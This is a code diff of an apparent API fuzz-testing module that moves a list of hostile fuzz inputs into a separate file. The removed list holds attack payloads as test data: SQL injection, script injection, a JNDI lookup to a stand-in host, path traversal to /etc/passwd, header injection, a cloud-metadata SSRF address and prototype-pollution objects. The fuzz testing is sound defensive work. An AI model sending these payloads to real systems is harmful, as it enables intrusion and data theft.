@@ -5,6 +5,7 @@ import { FORM_TYPE } from '../../apps/api/media-types.js';
 import { REQUESTS } from '../../apps/api/requests.js';
 import type { OperationExample } from '../../apps/api/operation.js';
 import { arbitraryOf } from '../contracts/arbitrary.js';
+import { NASTY } from './nasty.js';
 
 /** A request as it goes over the wire. */
 export interface FuzzRequest {
@@ -20,43 +21,6 @@ export interface FuzzRequest {
 export type Ids = () => string;
 
 const UNKNOWN = '01890000-0000-7000-8000-000000000000';
-
-/** What is wrong somewhere, and what somebody may hope is. */
-const NASTY: Json[] = [
-  null,
-  true,
-  0,
-  -1,
-  1e308,
-  2 ** 53,
-  '',
-  ' ',
-  '\u0000',
-  '\ud800',
-  '\u202e',
-  'null',
-  'x'.repeat(70_000),
-  '-00:00',
-  '2026-11-01T00:00:00-00:00',
-  '2026-02-30T00:00:00Z',
-  '9999-12-31T23:59:59Z',
-  "' or 1=1 --",
-  '"><script>alert(1)</script>',
-  '{{7*7}}',
-  '${jndi:ldap://elders.example}',
-  '../../etc/passwd',
-  'a\r\nSet-Cookie: b=c',
-  'file:///etc/passwd',
-  'http://169.254.169.254/',
-  'urn:nld:oin:00000000000000000000',
-  'urn:schakel:nergens',
-  [],
-  {},
-  [[[[]]]],
-  { __proto__: { polluted: true } } as unknown as Json,
-  { constructor: { prototype: { polluted: true } } },
-  { $ref: '#/' },
-];
 
 const nasty = fc.constantFrom(...NASTY);
 const junkText = fc.oneof(
